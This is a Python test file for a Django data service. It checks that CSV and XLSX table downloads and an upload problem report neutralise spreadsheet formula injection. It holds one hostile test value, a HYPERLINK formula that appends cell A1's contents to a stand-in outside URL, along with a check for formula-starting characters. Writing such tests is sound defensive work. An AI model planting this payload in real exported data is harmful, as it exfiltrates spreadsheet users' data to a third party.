"""What leaves as a table runs nothing in the spreadsheet that opens it, whatever a supplier has typed."""

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.test import Client
from web import town

from headwater.data import flow
from headwater.data.ingest import queries as ingest
from headwater.governance.partners import queries as partners

HOSTILE = '=HYPERLINK("http://example.org/?x="&A1)'
CHOICE = f"indicator={town.INDICATOR}&area={town.TOWN}&grain=month"


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take it for a formula; a number is none."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    return False


@pytest.mark.django_db
def test_no_download_holds_a_cell_that_a_spreadsheet_runs() -> None:
    town.make_areas(name=HOSTILE)
    town.release_figures(name=HOSTILE)
    text = Client().get(f"/trends/table.csv?{CHOICE}").content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert any(f"'{HOSTILE}" in row for row in rows)
    assert [cell for row in rows for cell in row if runs(cell)] == []
    workbook = Client().get(f"/trends/table.xlsx?{CHOICE}").content
    with zipfile.ZipFile(io.BytesIO(workbook)) as book:
        assert b"&apos;=HYPERLINK" in book.read("xl/sharedStrings.xml") or b"'=HYPERLINK" in book.read(
            "xl/sharedStrings.xml"
        )
        assert not any(b"<f>" in book.read(name) for name in book.namelist() if "worksheets/" in name)


@pytest.mark.django_db(databases=["default", "vault"])
@pytest.mark.usefixtures("own_home")
def test_a_heading_that_is_a_formula_is_only_words_in_the_problem_report(signed_in, tmp_path) -> None:
    sample = Path(__file__).parents[1] / "samples" / "police_street" / "good.csv"
    with sample.open(encoding="utf-8", newline="") as lines:
        headings, *rows = csv.reader(lines)
    path = tmp_path / "street.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([[*headings, HOSTILE], *([*row, "x"] for row in rows)])
    by = partners.operator()
    submission = flow.walk(flow.receive(path, file_name="street.csv", by=by), by=by)
    answer = signed_in("analyst").get(f"/submissions/{submission.uuid}/problems.csv")
    report = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))
    assert [row[1] for row in report[1:]] == [f"'{HOSTILE}"]
    assert [cell for row in report for cell in row if runs(cell)] == []
    assert ingest.problem_counts(submission)[0][0] == "unknown_column"
